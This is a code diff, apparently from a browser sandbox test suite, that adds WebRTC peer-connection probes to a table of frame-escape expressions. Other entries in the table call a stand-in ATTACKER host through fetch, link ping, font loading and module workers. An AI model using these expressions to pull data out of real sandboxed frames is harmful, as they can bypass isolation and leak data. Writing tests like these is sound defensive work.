@@ -1,3 +1,9 @@
+const PEER = `(async () => {
+	const peer = new (TARGET).RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] });
+	peer.createDataChannel('x');
+	await peer.setLocalDescription();
+	await new Promise(() => {}); })()`;
+
 /** The frame's document in the attacker's hands: one wall further in than any program gets. */
 export const FRAME_EXPRESSIONS: Record<string, string> = {
 	fetch: "fetch('ATTACKER')",
@@ -36,6 +42,11 @@ export const FRAME_EXPRESSIONS: Record<string, string> = {
 	'a link with a ping':
 		"(() => { const a = Object.assign(document.createElement('a'), { href: '#x', ping: 'ATTACKER' }); document.body.append(a); a.click(); })()",
 	'a font': "new FontFace('x', 'url(ATTACKER/font)').load()",
+	'a peer connection': PEER.replace('TARGET', 'self'),
+	"a nested frame's peer connection": PEER.replace(
+		'TARGET',
+		"document.body.appendChild(document.createElement('iframe')).contentWindow",
+	),
 	'a module worker':
 		"new Promise((_, reject) => { new Worker('ATTACKER/x.js', { type: 'module' }).onerror = () => reject('no worker'); })",
 };
